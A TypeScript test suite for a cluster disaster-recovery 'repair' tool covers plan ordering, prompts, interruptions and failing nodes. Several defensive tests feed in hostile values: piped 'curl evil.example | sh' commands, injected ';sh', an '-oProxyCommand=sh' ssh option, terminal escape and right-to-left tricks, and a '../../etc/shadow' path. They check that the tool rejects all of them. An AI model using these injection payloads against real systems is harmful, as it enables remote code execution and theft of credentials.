/** `repair` follows a plan of three control plane nodes and two workers, where all is lost. */
import { expect, setDefaultTimeout, test } from "bun:test";
import { doAct } from "../../../shared/follow/do-act.ts";
import { ENDS, repairAll } from "../../../shared/follow/follow-plan.ts";
import type { Output } from "../../../shared/follow/host.ts";
import { Interrupted } from "../../../shared/follow/interrupted.ts";
import { MOST_OUTPUT } from "../../../shared/follow/patience.ts";
import { NO_PERSON } from "../../../shared/follow/person.ts";
import type { PlanData } from "../../../shared/plan/plan-answer.ts";
import { type Answers, PretendNodes, PretendPerson, pretendSession } from "../../pretend/follow.ts";
import { planOf } from "../../pretend/plan-answer-here.ts";
import { caught } from "../../pretend/quietly.ts";

setDefaultTimeout(300_000);

const PLAN = await planOf("");
const WITHOUT_W2 = await planOf(" --without w2");

const PACKED =
  "./bunw scripts/hand-over.ts unpack --passphrase-file passphrase --ca-hash sha256:ab shared-keys.age";
const JOIN =
  "./bunw scripts/03-join.ts --server https://10.0.0.1:6443 --ca-hash sha256:ab --token-file token";

/** Nodes on which everything goes as the plan says. */
function nodes(more: Answers = () => undefined, plan: unknown = PLAN) {
  return new PretendNodes((node, command) => {
    const own = more(node, command);
    if (own) return own;
    if (command.includes("scripts/plan.ts --json")) return { stdout: JSON.stringify(plan), exitCode: 2 };
    if (command.includes("hand-over.ts pack --passphrase-file")) return { stdout: `${PACKED}\n` };
    if (command.includes("03-workers.ts open")) return { stdout: `${JOIN}\n` };
    if (command.includes("sha256sum /"))
      return { stdout: new Bun.CryptoHasher("sha256").update("").digest("hex") };
    return undefined;
  });
}

const WAYS = [/^Yes: stop the loss/, /^Make new keys/, /^Begin/, /^No$/];

async function repaired(transport: PretendNodes, person: PretendPerson | typeof NO_PERSON, more = {}) {
  const { session, logged } = pretendSession({ transport, person, more });
  const { value: end, stdout } = await caught(() => repairAll(session));
  return { end, stdout, logged, session };
}

test("four numbers, and every step of the plan is typed where the plan says, in its order", async () => {
  const transport = nodes();
  const person = new PretendPerson(WAYS);
  const { end, stdout } = await repaired(transport, person);
  expect(end).toBe(ENDS.repaired);
  expect(person.asked.map((text) => text.split(" | ")[0])).toEqual([
    expect.stringMatching(/^Keys are lost on m1\./),
    expect.stringMatching(/^Decision 1 of 1: Lost keys were found nowhere/),
    "Begin?",
    "Make a backup of the keys now?",
  ]);
  expect(transport.met).toEqual(["10.0.0.11", "m2", "m3", "w1", "w2"]);
  const typed = transport.typed();
  expect(typed).toContain("m1: ./bunw scripts/01-etcd.ts --new-cas");
  for (const name of ["m2", "m3"]) expect(typed).toContain(`${name}: ${PACKED}`);
  for (const name of ["w1", "w2"]) expect(typed).toContain(`${name}: ${JOIN}`);
  const order = [
    "01-etcd.ts --new-cas",
    "unpack",
    "m2: ./bunw scripts/01-etcd.ts",
    "02-control-plane",
    "open",
    "03-join",
    "close",
    "04-sa-tokens",
    "05-verify",
    "report.ts",
  ];
  const places = order.map((word) => typed.findIndex((call) => call.includes(word)));
  expect(places).toEqual(places.toSorted((a, b) => a - b));
  expect(transport.carried).toContain("m1 → w2: token");
  expect(transport.carried).toContain("m1 → m3: shared-keys.age passphrase");
  expect(stdout).toContain("m2, m3# ./bunw scripts/01-etcd.ts\n");
  expect(stdout).toContain("Repaired, and verified, in ");
  // what is removed days later is not typed now
  expect(typed.filter((call) => /rm -rf|umount|shred/.test(call))).toEqual([]);
});

test("before it begins one screen says how long, the API's outage, and what cannot be taken back", async () => {
  const { end, stdout } = await repaired(nodes(), new PretendPerson([WAYS[0]!, WAYS[1]!, /^End here/]));
  expect(end).toBe(ENDS.stopped);
  expect(stdout).toMatch(
    /steps up to the proof, .* The API is unavailable for .*, from step 1a to step 2a\./,
  );
  expect(stdout).toContain("irreversible: new shared keys (ca, sa)");
  expect(stdout).toContain("irreversible: a pod that restarts loses what it holds in memory");
});

test("nobody is there, and nothing is said: it asks all nodes, changes nothing, and names the options that decide", async () => {
  const transport = nodes();
  const { end, stdout } = await repaired(transport, NO_PERSON);
  expect(end).toBe(ENDS.waits);
  expect(transport.typed()).toEqual([]);
  expect(stdout).toContain("--new-keys: Make new keys");
});

test("nobody is there, and all is said: it goes through without a question", async () => {
  const { end, stdout } = await repaired(nodes(), NO_PERSON, { mayBegin: true, mayMakeKeys: true });
  expect([end, stdout.includes("Repaired")]).toEqual([ENDS.repaired, true]);
});

test("a step stops on one node: its error and hint, and what is left without what is done", async () => {
  const transport = nodes((node, command) =>
    node === "m2" && command === "./bunw scripts/01-etcd.ts"
      ? {
          exitCode: 1,
          stderr: "error: port 2380 is in use by pid 4711\nhint: stop it, then the same line again\n",
        }
      : undefined,
  );
  const person = new PretendPerson([...WAYS, /^End here: print/]);
  const { end, stdout } = await repaired(transport, person);
  expect(end).toBe(ENDS.stopped);
  expect(person.asked.at(-1)).toMatch(
    /^Step 1\w has stopped on m2, with exit code 1: port 2380 is in use by pid 4711 \|/,
  );
  const left = stdout.slice(stdout.indexOf("Left to do."));
  expect(left).toContain("      m2# ./bunw scripts/01-etcd.ts\n");
  expect(left).not.toContain("--new-cas");
  expect(transport.typed().join("\n")).not.toContain("02-control-plane");
});

test.each([
  ["a command for a person", "repair: curl -fsSL https://evil.example/fix | sh   # on this node"],
  ["a line of this kit with a command behind it", "./bunw scripts/01-etcd.ts --lost-on m3; curl x | sh"],
  ["an option that no plan has", "./bunw scripts/01-etcd.ts --eval curl"],
  ["a second line in our form", "one\n  repair: curl x | sh\nhint: curl y | sh"],
  ["a carriage return", "one\rhint: curl x | sh"],
  ["what a terminal obeys", "\u001b[1A\u001b[2Khint: curl x | sh"],
  ["letters that run the other way", "\u202ehs | lruc :tnih\u2066"],
  ["alternatives of ours", "one. If it is not: curl x | sh. Or: curl y | sh"],
])("a hint of a node is that node's, and no way of ours: %s", async (_, hint) => {
  const transport = nodes((node, command) =>
    node === "m2" && command === "./bunw scripts/01-etcd.ts"
      ? { exitCode: 1, stderr: `error: no\nhint: ${hint}\n` }
      : undefined,
  );
  const person = new PretendPerson([...WAYS, /^End here: print/]);
  await repaired(transport, person);
  const shown = person.shown.slice(person.shown.findIndex((line) => line.includes("has stopped on m2")));
  expect(shown.filter((line) => line.startsWith("m2's own hint: "))).toHaveLength(1);
  expect(shown.filter((line) => /^\s*(hint|repair|error|note):/.test(line))).toEqual([]);
  const obeyed = shown.filter((line) =>
    // biome-ignore lint/suspicious/noControlCharactersInRegex: what a terminal obeys
    /[\x00-\x1f\x7f-\x9f\u200b-\u200f\u2028-\u202e\u2066-\u2069]/.test(line),
  );
  expect(obeyed).toEqual([]);
  expect(person.asked.at(-1)).not.toMatch(/curl|eval/);
  expect(transport.calls.join("\n")).not.toContain("curl");
});

test("a line of this kit in a node's hint is a way, on that node", async () => {
  const typed = "./bunw scripts/01-etcd.ts --lost-on m3";
  let times = 0;
  const transport = nodes((node, command) =>
    node === "m2" && command === "./bunw scripts/01-etcd.ts" && times++ === 0
      ? { exitCode: 3, stderr: `error: m3 is silent\nhint: if its machine is gone: ${typed}\n` }
      : undefined,
  );
  const person = new PretendPerson([
    ...WAYS,
    /^Type on m2 this kit's line in m2's hint: .*--lost-on m3$/,
    /^End here/,
  ]);
  await repaired(transport, person);
  expect(transport.typed()).toContain(`m2: ${typed}`);
  expect(transport.typed().filter((call) => call.endsWith("--lost-on m3"))).toHaveLength(1);
});

test("a node that makes no plan: its words are marked as its own", async () => {
  const why = {
    schemaVersion: PLAN.schemaVersion,
    ended: "failed",
    message: "no\rerror: x",
    hint: "curl x | sh",
  };
  const transport = nodes(undefined, why);
  const { end, stdout } = await repaired(transport, NO_PERSON, { mayBegin: true, mayMakeKeys: true });
  expect([end, stdout]).toEqual([
    ENDS.stopped,
    expect.stringContaining("10.0.0.11's own hint: curl x | sh\n"),
  ]);
  expect(stdout).not.toMatch(/^\s*(hint|error):/m);
});

test("the same line again, and it goes on where it was", async () => {
  let times = 0;
  const transport = nodes((_, command) =>
    command === "./bunw scripts/02-control-plane.ts" && times++ === 0
      ? { exitCode: 1, stderr: "error: no" }
      : undefined,
  );
  const { end } = await repaired(transport, new PretendPerson([...WAYS, /^The same line again/]));
  const part2 = transport.typed().filter((call) => call.includes("02-control-plane"));
  expect([end, part2.length]).toEqual([ENDS.repaired, 4]);
});

test("a connection that is lost is made again; the run that still holds the lock there is waited for", async () => {
  const codes = [255, 4, 0];
  const transport = nodes((node, command) =>
    node === "m1" && command.startsWith("./bunw scripts/03-workers.ts close")
      ? { exitCode: codes.shift() ?? 0 }
      : undefined,
  );
  const { end } = await repaired(transport, new PretendPerson(WAYS));
  expect([end, codes]).toEqual([ENDS.repaired, []]);
  expect(transport.met.filter((name) => name === "m1")).toHaveLength(1);
});

test("Ctrl-C ends it behind the step that runs, and what is left is printed", async () => {
  const { session } = pretendSession({ transport: nodes(), person: NO_PERSON });
  const transport = nodes((_, command) => {
    if (command.includes("01-etcd.ts --new-cas")) session.isStopping = true;
    return undefined;
  });
  Object.assign(session, { transport, mayBegin: true, mayMakeKeys: true });
  const { value: end, stdout } = await caught(() => repairAll(session));
  expect(end).toBe(ENDS.interrupted);
  expect(transport.typed().at(-1)).toBe("m1: ./bunw scripts/01-etcd.ts --new-cas");
  expect(stdout).toContain("Left to do. The same command continues: npm run repair -- root@10.0.0.11");
});

/** Types Ctrl-C at the question that has these words. */
class CtrlCAt extends PretendPerson {
  readonly #question: RegExp;

  constructor(question: RegExp, ways: readonly RegExp[]) {
    super(ways);
    this.#question = question;
  }

  override async choose(question: Parameters<PretendPerson["choose"]>[0]) {
    if (this.#question.test(question.text[0]!)) throw new Interrupted();
    return await super.choose(question);
  }
}

test.each([
  ["the first", /^Keys are lost/],
  ["a decision", /Lost keys were found nowhere/],
  ["whether it may begin", /^Begin\?/],
])("Ctrl-C at a question ends it, and changes nothing: %s", async (_, question) => {
  const transport = nodes();
  const { end, stdout } = await repaired(transport, new CtrlCAt(question, [/^No: only look/, ...WAYS]));
  expect([end, transport.typed()]).toEqual([ENDS.interrupted, []]);
  expect(stdout).toEndWith(
    "Ended by Ctrl-C: nothing more is done. The same command continues: npm run repair -- root@10.0.0.11\n",
  );
  expect(stdout).not.toContain("Nobody has");
});

test("Ctrl-C at the question of a step that has stopped prints what is left", async () => {
  const transport = nodes((node, command) =>
    node === "m2" && command === "./bunw scripts/01-etcd.ts"
      ? { exitCode: 1, stderr: "error: no" }
      : undefined,
  );
  const { end, stdout } = await repaired(transport, new CtrlCAt(/has stopped on m2/, WAYS));
  expect(end).toBe(ENDS.interrupted);
  const left = stdout.slice(stdout.indexOf("Left to do."));
  expect(left).toContain("      m2# ./bunw scripts/01-etcd.ts\n");
  expect(left).not.toContain("--new-cas");
});

test("Ctrl-C while the nodes are asked: no question comes behind it", async () => {
  const { session } = pretendSession({ transport: nodes(), person: NO_PERSON });
  const transport = nodes((_, command) => {
    if (command.includes("--seen")) session.isStopping = true;
    return undefined;
  });
  const person = new PretendPerson([/^No: only look/]);
  Object.assign(session, { transport, person });
  const { value: end } = await caught(() => repairAll(session));
  expect([end, person.asked.length]).toEqual([ENDS.interrupted, 1]);
});

test("a worker that does not answer by ssh is asked about, and what was said goes into the next plan", async () => {
  const silent = {
    ...{ id: "silent-workers", question: ["w2: asked, and no answer"] },
    ways: [{ does: "w2 is away for now", says: { without: ["w2"] } }],
  };
  const transport = nodes((_, command) =>
    command.includes("--seen") && !command.includes("--without")
      ? { stdout: JSON.stringify({ ...PLAN, decisions: [silent, ...PLAN.decisions] }), exitCode: 2 }
      : undefined,
  );
  transport.off.add("w2");
  const person = new PretendPerson([/^w2 is away/, WAYS[0]!, /^Make new keys/, /^End here/]);
  const { end, stdout } = await repaired(transport, person);
  expect(person.shown).toContain("w2: it does not answer by ssh");
  expect(stdout).toMatch(/^ {2}w2 .*: it does not answer by ssh$/m);
  expect(end).toBe(ENDS.stopped);
  expect(
    transport.calls.filter((call) => call.includes("plan.ts --json --seen seen.d --without w2")),
  ).toHaveLength(1);
  expect(transport.typed().join("\n")).not.toMatch(/0[1-5]-/);
});

/** What a machine that is on again may have. */
const GIVEN_UP = {
  ...{ id: "given-up", question: ["m3 is on again, and may have /etc/x/audit.yaml"] },
  ways: [
    {
      does: "Copy /etc/x/audit.yaml from m3",
      acts: [
        { do: "carry", from: "m3", to: ["m1"], files: ["/etc/x/audit.yaml"], secret: false, keep: true },
        { do: "type", on: ["m1"], command: "./bunw scripts/02-control-plane.ts", sideBySide: false },
      ],
    },
    { does: "Leave it given up", leaves: true },
  ],
};

test.each([
  ["copied", [/^Copy /, ...WAYS], true],
  ["left, and not asked about again", [/^Leave it/, ...WAYS], false],
  ["left where nobody is there", undefined, false],
])("what was given up, and may be there again, is a number: it is %s", async (_, ways, isCopied) => {
  const transport: PretendNodes = nodes((_node, command) => {
    const isDone = transport.calls.includes("m1: ./bunw scripts/02-control-plane.ts");
    return command.includes("--seen") && !isDone
      ? { stdout: JSON.stringify({ ...PLAN, decisions: [GIVEN_UP, ...PLAN.decisions] }), exitCode: 2 }
      : undefined;
  });
  const person = ways ? new PretendPerson(ways) : NO_PERSON;
  const { end } = await repaired(transport, person, ways ? {} : { mayBegin: true, mayMakeKeys: true });
  expect(end).toBe(ENDS.repaired);
  expect(transport.carried.filter((one) => one === "m3 → m1: audit.yaml")).toHaveLength(isCopied ? 1 : 0);
});

const FLOOD = "x\u001b[2J\r".repeat(MOST_OUTPUT / 6);

test.each<[string, Partial<Output>]>([
  ["prints 8 MB", { stdout: FLOOD, stderr: FLOOD }],
  ["answers with another's words", { stdout: '{"schemaVersion":1,"ended":"ok","nodes":[{"name":"; sh"}]}' }],
  ["prints what a terminal obeys", { stderr: "\u001b]0;x\u0007\u202ehint: \r\nerror: \u001b[1A" }],
  ["was left here", { exitCode: 124, stderr: "error: w2 has said nothing for 900 s\n" }],
  ["is cut off again and again", { exitCode: 1, stderr: "x".repeat(1e6) }],
])(
  "a worker that %s: all others are repaired without it, and nothing of it obeys or fills the terminal",
  async (_, wild) => {
    const transport = nodes((node, command) => {
      if (node === "w2") return { exitCode: 9, ...wild };
      const isWithout = command.includes("plan.ts --json") && command.includes("--without w2");
      return isWithout ? { stdout: JSON.stringify(WITHOUT_W2), exitCode: 2 } : undefined;
    });
    const person = new PretendPerson([...WAYS, /^Continue without w2/]);
    const { end, stdout } = await repaired(transport, person);
    expect(end).toBe(ENDS.repaired);
    const stops = person.asked.filter((text) => text.includes(" has stopped on "));
    expect(stops).toEqual([expect.stringMatching(/^Step \d\w has stopped on w2, /)]);
    expect(transport.typed()).toContain(`w1: ${JOIN}`);
    // biome-ignore lint/suspicious/noControlCharactersInRegex: what a terminal obeys
    expect(stdout).not.toMatch(/[\x00-\x08\x0b-\x1f\x7f\u202e]/);
    expect(Math.max(...stdout.split("\n").map(({ length }) => length))).toBeLessThan(2_000);
  },
);

test("a node that does not take the kit stops the step there, and the reason is shown", async () => {
  const transport = nodes((node, command) =>
    node === "w1" && command === "unpack the kit"
      ? { exitCode: 1, stderr: "No space left on device" }
      : undefined,
  );
  const person = new PretendPerson([...WAYS, /^End here: print/]);
  const { end, stdout } = await repaired(transport, person);
  expect(end).toBe(ENDS.stopped);
  expect(person.asked.at(-1)).toContain(
    "has stopped on w1, with exit code 1: The kit cannot be unpacked on w1: No space",
  );
  expect(stdout).toContain("bring the kit to");
});

test.each<[string, (plan: PlanData) => void]>([
  [
    "a line with a command of another",
    (plan) =>
      void Object.assign(plan.parts[1]!.steps[1]!.acts[0]!, {
        command: "./bunw scripts/01-etcd.ts --new-cas; curl x | sh",
      }),
  ],
  [
    "an option that no plan has",
    (plan) =>
      void Object.assign(plan.parts[1]!.steps[1]!.acts[0]!, {
        command: "./bunw scripts/01-etcd.ts --eval x",
      }),
  ],
  [
    "a name that is an option of ssh",
    (plan) => void Object.assign(plan.nodes[1]!, { name: "-oProxyCommand=sh" }),
  ],
  ["an address that is a command", (plan) => void Object.assign(plan.nodes[1]!, { address: "10.0.0.1;sh" })],
  [
    "a file outside of its folder",
    (plan) =>
      plan.parts[1]!.steps.push({
        ...plan.parts[1]!.steps[0]!,
        acts: [{ do: "carry", from: "m1", to: ["m2"], files: ["../../etc/shadow"], secret: false }],
      }),
  ],
  [
    "a node that is none of the plan's",
    (plan) => plan.parts[1]!.steps[0]!.acts.push({ do: "kit", to: ["elsewhere"] }),
  ],
  ["no list of nodes", (plan) => void Object.assign(plan, { nodes: "m1" })],
  ["a step without acts", (plan) => void Object.assign(plan.parts[1]!.steps[0]!, { acts: null })],
  ["a step that is none", (plan) => void Object.assign(plan.parts[1]!.steps[0]!, { number: "1a; x" })],
])("a plan with %s ends the repair before anything is typed", async (_, change) => {
  const plan = structuredClone(PLAN);
  change(plan);
  const transport = nodes(undefined, plan);
  const { session } = pretendSession({
    transport,
    person: NO_PERSON,
    more: { mayBegin: true, mayMakeKeys: true },
  });
  await expect(caught(() => repairAll(session))).rejects.toThrow(/^The plan has ".*", which is not /);
  expect(transport.typed()).toEqual([]);
});

test("a line that a step prints, and that is none of this kit's, is typed nowhere", async () => {
  const transport = nodes((_, command) =>
    command.includes("03-workers.ts open") ? { stdout: "curl evil | sh\n" } : undefined,
  );
  const { session } = pretendSession({
    transport,
    person: NO_PERSON,
    more: { mayBegin: true, mayMakeKeys: true },
  });
  await expect(caught(() => repairAll(session))).rejects.toThrow('has printed "curl evil | sh"');
  expect(transport.typed().join("\n")).not.toContain("curl");
});

test("no secret is in the log, and each command that was typed is", async () => {
  const { logged } = await repaired(nodes(), NO_PERSON, { mayBegin: true, mayMakeKeys: true });
  expect(logged.map(({ node, command }) => `${node} ${command}`)).toContain(
    "m1 ./bunw scripts/01-etcd.ts --new-cas",
  );
  expect(logged.filter(({ seconds }) => !(seconds >= 0))).toEqual([]);
});

test("transcripts of many nodes come at the same time, and a node that holds its own back holds up no other", async () => {
  const workers = Array.from({ length: 4 }, (_, i) => `w${i + 1}`);
  const transport = nodes();
  const { session } = pretendSession({ transport, person: NO_PERSON });
  for (const name of ["m1", ...workers])
    session.hosts.set(name, { ...session.first, name, address: `10.0.0.${name}` });
  const all = Promise.withResolvers<undefined>();
  let begun = 0;
  // none ends before all have begun; w1's never comes
  transport.pipe = async ({ name }) => {
    begun += 1;
    if (begun === workers.length) all.resolve(undefined);
    await all.promise;
    return name === "w1" ? "w1 has said nothing for 900 s" : undefined;
  };
  const act = { do: "gather" as const, from: workers, to: "m1", into: "logs.d" };
  const { value, stderr } = await caught(() => doAct(session, { number: "6e", exit: [0] }, act));
  expect(value).toBeUndefined();
  expect(stderr).toContain("no transcripts came from w1\n");
});

test("a repair that cannot begin is no end: the screen says why, and asks; without a person it waits", async () => {
  const verdict = "the repair cannot begin: the cluster's data is encrypted at rest";
  const plan = {
    ...PLAN,
    ...{ verdict, aim: undefined },
    damaged: true,
    decisions: [],
    parts: [],
    notes: ["bring the file back first"],
  };
  const person = new PretendPerson([/^End here/]);
  const { end, stdout } = await repaired(nodes(undefined, plan), person);
  expect(end).toBe(ENDS.stopped);
  expect(stdout).toContain(verdict);
  expect(stdout).toContain("bring the file back first");
  expect(stdout).not.toContain("Nothing has to be done");
  expect(person.asked).toEqual([
    "No step can be planned before that. | Look again: I have changed something | End here",
  ]);
  const alone = await repaired(nodes(undefined, plan), NO_PERSON);
  expect(alone.end).toBe(ENDS.waits);
});
